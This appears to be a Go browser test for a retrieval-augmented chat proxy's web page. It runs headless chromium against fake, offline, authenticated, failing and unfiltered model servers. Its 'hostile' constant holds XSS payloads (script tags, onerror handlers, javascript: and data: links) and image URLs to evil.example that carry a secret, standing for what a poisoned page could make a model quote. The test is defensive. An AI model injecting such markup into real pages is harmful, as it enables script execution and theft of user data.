package webui_test

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/ragproxy/ragproxy/compat/openaitest"
	"github.com/ragproxy/ragproxy/grounding"
	"github.com/ragproxy/ragproxy/internal/gatewaytest"
	"github.com/ragproxy/ragproxy/internal/indextest"
	"github.com/ragproxy/ragproxy/internal/nodetest"
	"github.com/ragproxy/ragproxy/server"
	"github.com/ragproxy/ragproxy/webui"
)

const (
	tuitionURL = "https://www.lakeshore-poly.example/tuition/"
	// hostile is what a poisoned page could make an answer quote: raw HTML blocks, and (in paragraphs of their own,
	// so that markdown parses them) a script link and remote images.
	hostile = "<script>window.__pwned=1</script><img src=x onerror=\"window.__pwned=2\">\n\n" +
		"See [click](javascript:window.__pwned=3) and [data](data:text/html,<script>parent.__pwned=4</script>).\n\n" +
		"![i](https://evil.example/p.png?d=secret)\n\n" +
		"Inline <img src=\"https://evil.example/q.png?d=secret\" onerror=\"window.__pwned=5\"> too."
)

// pageModel answers the chat page's questions: a slow answer to stop, a hostile one, else a cited answer.
func pageModel(r *openaitest.Request) openaitest.Reply {
	last := ""
	if len(r.Messages) > 0 {
		last = r.Messages[len(r.Messages)-1].Text()
	}
	switch {
	case strings.Contains(last, "slow"):
		words := make([]string, 200)
		for i := range words {
			words[i] = "word" + string(rune('0'+i%10))
		}
		return openaitest.Reply{Content: strings.Join(words, " "), ChunkDelay: 50 * time.Millisecond}
	case strings.Contains(last, "hostile"):
		return openaitest.Reply{Content: hostile}
	}
	return openaitest.Reply{Content: "In-state tuition is $4,850 per semester ([Tuition and Fees](" + tuitionURL + "))."}
}

// TestChatPageBrowser drives the chat page in Debian's headless chromium through playwright-core
// (clients/chatpage.mjs) against servers on the example index: online in front of a fake model, offline, with
// client keys, with a failing upstream, and a plain gateway whose answers reach the page unfiltered. It needs
// chromium and `npm ci` in clients, so it runs only when RAGPROXY_BROWSER_TEST=1.
func TestChatPageBrowser(t *testing.T) {
	dir := nodetest.Dir(t, "RAGPROXY_BROWSER_TEST", "playwright-core")
	r, tok := indextest.Shared(t)
	const key = "sk-page-key"
	start := func(offline, auth, grounded bool, fake openaitest.Config) *gatewaytest.Harness {
		page, err := webui.New(webui.Config{Site: "Lakeshore Polytechnic", Model: "lakeshore", AuthRequired: auth})
		if err != nil {
			t.Fatal(err)
		}
		cfg := server.Config{Page: page, Models: []server.ModelAlias{{ID: "lakeshore"}}}
		if grounded {
			cfg.Grounder = &grounding.Grounder{Retriever: r, Tokenizer: tok, SiteName: "Lakeshore Polytechnic", Offline: offline}
		}
		if auth {
			cfg.APIKeys = []string{key}
		}
		return gatewaytest.Start(t, cfg, fake)
	}
	online := start(false, false, true, openaitest.Config{Reply: pageModel})
	offline := start(true, false, true, openaitest.Config{})
	auth := start(true, true, true, openaitest.Config{})
	failing := start(false, false, true, openaitest.Config{})
	failing.Fake.FailAlways(&openaitest.Fault{Status: http.StatusInternalServerError,
		Body: `{"error":{"message":"The model is overloaded, try again later.","type":"server_error","param":null,"code":null}}`})
	raw := start(false, false, false, openaitest.Config{Reply: pageModel})

	// The online fake's requests, for the script to check the history it sent and that Stop closed the call.
	fakeLog := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		type message struct {
			Role    string `json:"role"`
			Content string `json:"content"`
		}
		type entry struct {
			Path     string    `json:"path"`
			Messages []message `json:"messages"`
			Canceled bool      `json:"canceled"`
		}
		var out []entry
		for _, req := range online.Fake.Requests() {
			e := entry{Path: req.Path, Canceled: req.Canceled, Messages: []message{}}
			for _, m := range req.Messages {
				e.Messages = append(e.Messages, message{m.Role, m.Text()})
			}
			out = append(out, e)
		}
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(out)
	}))
	t.Cleanup(fakeLog.Close)

	// The screenshots are the test's artifact: kept after it ends, in the system's temporary directory.
	shots, err := os.MkdirTemp("", "ragproxy-chatpage-")
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("screenshots in %s", shots)
	nodetest.Run(t, dir, 5*time.Minute, []string{"RAGPROXY_PAGE_URL=" + online.Base, "RAGPROXY_OFFLINE_PAGE_URL=" + offline.Base,
		"RAGPROXY_AUTH_PAGE_URL=" + auth.Base, "RAGPROXY_API_KEY=" + key, "RAGPROXY_FAIL_PAGE_URL=" + failing.Base,
		"RAGPROXY_RAW_PAGE_URL=" + raw.Base, "RAGPROXY_FAKE_LOG_URL=" + fakeLog.URL, "RAGPROXY_SCREENSHOT_DIR=" + shots},
		"chatpage.mjs")
}
